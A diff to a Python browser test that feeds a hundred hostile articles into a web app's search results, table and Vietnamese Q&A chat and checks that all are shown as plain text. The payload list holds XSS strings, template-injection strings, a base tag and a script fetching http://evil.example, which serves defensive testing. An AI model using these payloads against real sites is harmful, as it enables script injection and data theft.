@@ -12,7 +12,7 @@ from index.records import Span
 from web.escaping import visible
 from web.links import PlaceLink
 
-from .conftest import Page, open_tab, serving
+from .conftest import Page, ask, open_tab, serving
 
 ATTACKS = [
     "<script>alert({n})</script>",
@@ -31,10 +31,10 @@ ATTACKS = [
     "<base href=http://evil.example/{n}/>",
     "</mark></div></article><h1 onmouseover=alert({n})>thoát ra</h1>",
     "&lt;script&gt;alert({n})&lt;/script&gt; &#60;b&#62;",
-    "**đậm** _nghiêng_ `mã` ~~gạch~~ # tiêu đề $$x^2$$",
     "hóa đơn \u202egnp.exe {n}\u202c và \u200bkhoảng trống\ufeff",
+    "http://[{n}",
     "<textarea></textarea><script>fetch('http://evil.example/{n}')</script>",
-    "{{constructor.constructor('alert({n})')()}} ${{alert({n})}} <%= {n} %>",
+    "{{{{constructor.constructor('alert({n})')()}}}} ${{{{alert({n})}}}} <%= {n} %>",
 ]
 FIELDS = ("title", "source", "author", "url", "text")
 """Each attack stands once in each place that a page shows: a hundred articles."""
@@ -88,10 +88,8 @@ def test_a_hundred_hostile_articles_are_shown_as_text_everywhere(open_page: Call
     page.click("#find")
     page.wait_for_selector("#results li")
     open_tab(page, "Hỏi đáp")
-    for asked in ("Bài thử số 81 kể chuyện gì?", "Bài thử số 97 kể chuyện gì?"):
-        page.fill("#question textarea", asked)
-        page.press("#question textarea", "Enter")
-        page.wait_for_timeout(1500)
+    for number in (80, 85):
+        assert visible(CASES[number][2]) in ask(page, f"Bài thử số {number} kể chuyện gì?").inner_text()
     shown = page.locator("#chat .bot, #results, #table")
     assert shown.locator("script, iframe, svg[onload], img[src*=evil], form, base, style").count() == 0
 
